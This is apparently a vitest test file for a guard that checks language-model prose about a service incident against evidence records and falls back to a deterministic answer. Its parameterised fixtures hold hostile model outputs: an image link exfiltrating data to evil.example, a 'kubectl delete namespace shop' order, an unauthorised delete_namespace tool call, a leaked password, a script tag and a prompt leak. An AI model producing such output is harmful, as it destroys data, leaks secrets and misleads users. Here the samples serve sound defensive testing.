import { describe, expect, test } from 'vitest'
import { ManualClock } from '../../../../kernel/clock.ts'
import { seededRandom } from '../../../../kernel/random.ts'
import { ModelFailure } from '../../../../port/language-model.ts'
import { nowMs, persona, sample } from './bundle.suite.ts'
import { TurnConfig } from './config.ts'
import { TokenEstimate } from './pack/token-estimate.ts'
import { type Act, scriptedModel } from './scripted-model.suite.ts'
import { writeProse } from './turn.ts'
import { good, run, text } from './turn-run.suite.ts'

describe('a model that writes prose', () => {
  test('is the engine of the answer when its text holds, which is shown sentence by sentence', async () => {
    const { prose, events, shown } = await run([good])
    expect(prose).toMatchObject({
      text: good,
      engine: 'scripted',
      model: 'worst-case',
      modelNote: null,
      outcome: 'ANSWERED',
    })
    expect(prose.claims).toEqual(sample.claims)
    expect(prose.usage).toMatchObject({ input_tokens: 900, output_tokens: 60, calls: 1, cost_usd: null })
    expect(shown).toBe(good)
    expect(events.filter(({ type }) => type === 'text').length).toBe(2)
  })

  test('gets one more try that names what was wrong, and nothing wrong is ever shown', async () => {
    const { prose, events, requests } = await run([
      'billing is failing: 15 % of its requests are errors [e1][e2]. quay-07 did not answer [c2].',
      good,
    ])
    expect(prose.text).toBe(good)
    expect(requests).toHaveLength(2)
    expect(requests[1]?.messages.at(-1)?.text).toContain('"15 %" is not in e1, e2')
    expect(events.some((event) => event.type === 'text' && event.text.includes('15 %'))).toBe(false)
  })

  test('is taken back where a later sentence does not hold, and the base answer stands', async () => {
    const { prose, events, shown, requests } = await run([`${good} warehouse is down [e1].`])
    expect(requests).toHaveLength(2)
    expect(prose).toMatchObject({ text, engine: 'deterministic', model: null })
    expect(prose.modelNote).toContain('"warehouse" is not a name in the records')
    expect(events.filter(({ type }) => type === 'reset')).toHaveLength(2)
    expect(shown).toBe(text)
    expect(prose.usage?.calls).toBe(2)
  })

  test.each<[string, Act]>([
    ['an empty answer', ''],
    ['white space', '  \n\n '],
    ['a giant answer', 'billing is failing [e1][e2]. '.repeat(3_000)],
    ['one endless word', 'x'.repeat(200_000)],
    ['what contradicts the evidence', 'billing is healthy [e1][e2]. quay-07 did not answer [c2].'],
    [
      'another service',
      'orders is failing: 14 % of its requests are errors [e1][e2]. quay-07 did not answer [c2].',
    ],
    ['no citations', 'billing is failing.'],
    ['citations of nothing', 'billing is failing [e77]. quay-07 did not answer [c2].'],
    ['an answer that was cut', { text: good, reason: 'CUT' }],
    ['an answer that was withheld', { text: good, reason: 'FILTERED' }],
    [
      'a call of a tool that it was not given',
      { calls: [{ name: 'delete_namespace', input: { name: 'shop' } }] },
    ],
    [
      'an order to a reader',
      'billing is failing [e1][e2]. Run kubectl delete namespace shop [e8]. quay-07 did not answer [c2].',
    ],
    [
      'a claim to have acted',
      'billing is failing [e1][e2]. I restarted billing [e1]. quay-07 did not answer [c2].',
    ],
    ['an image that carries data away', `${good} ![x](https://evil.example/?d=e1)`],
    ['a link to elsewhere', `${good} See https://evil.example/fix [e1].`],
    ['a secret', `${good} Its password=hunter2x99 leaked [e4].`],
    ['its own prompt', (request) => ({ text: `${request.messages[1]?.text ?? ''}`, reason: 'CUT' })],
    ['a script', `${good} <script>alert(1)</script> [e1].`],
  ])('that writes %s is not believed', async (_, act) => {
    const { prose, shown } = await run([act])
    expect(prose).toMatchObject({ text, engine: 'deterministic', model: null, outcome: 'ANSWERED' })
    expect(prose.modelNote).toMatch(/\.$/)
    expect(shown).toBe(text)
  })

  test.each([
    ['CONNECT', 'cannot be reached'],
    ['TIMEOUT', 'did not answer in time'],
    ['BROKEN', 'broke off'],
    ['REFUSED', 'refused'],
  ] as const)('that fails with %s is a note in the base answer', async (kind, note) => {
    const { prose, shown, events } = await run([
      { throws: new ModelFailure(kind, 'secret detail'), after: good.slice(0, 95) },
    ])
    expect(prose.modelNote).toContain(note)
    expect(prose.modelNote).not.toContain('secret detail')
    expect(shown).toBe(text)
    expect(events.some(({ type }) => type === 'reset')).toBe(true)
  })

  test('that another takes over from is taken back first', async () => {
    const { prose, shown } = await run([{ resetAfter: good, next: good }])
    expect(prose).toMatchObject({ text: good, engine: 'second', model: 'other' })
    expect(shown).toBe(good)
  })

  test('that takes too long leaves the base answer', async () => {
    const clock = new ManualClock(nowMs)
    const { complete } = scriptedModel('')
    let began = (): void => undefined
    const asked = new Promise<void>((resolve) => {
      began = resolve
    })
    async function* stalled(...[, { signal }]: Parameters<typeof complete>) {
      began()
      await new Promise((_, reject) => signal.addEventListener('abort', () => reject(signal.reason)))
      yield { type: 'text', text: 'never' } as const
    }
    const work = writeProse(
      {
        bundle: sample,
        text,
        persona: persona(),
        history: [],
        attachments: [],
        ability: { windowTokens: 8_192, callsTools: false },
      },
      {
        complete: stalled,
        config: TurnConfig.parse({}),
        estimate: new TokenEstimate(),
        clock,
        random: seededRandom(1),
      },
    )
    await asked
    await clock.advance(60_001)
    expect((await work).modelNote).toBe('The language model took too long.')
  })

  test('stops when the reader does', async () => {
    const ending = new AbortController()
    ending.abort(new Error('stopped'))
    await expect(run([good], { signal: ending.signal })).rejects.toThrow('stopped')
  })

  test('is not asked to write anew what was not answered, nor a proposal', async () => {
    for (const outcome of ['UNANSWERABLE', 'CLARIFY', 'PROPOSED'] as const) {
      const { prose, requests } = await run([good], { bundle: { ...sample, outcome } })
      expect(requests).toHaveLength(0)
      expect(prose).toMatchObject({ text, outcome, modelNote: null, usage: null })
    }
  })

  test('with a window too small for a prompt is not asked', async () => {
    const { prose, requests } = await run([good], { ability: { windowTokens: 1_024, callsTools: false } })
    expect(requests).toHaveLength(0)
    expect(prose.modelNote).toContain('too small')
  })
})
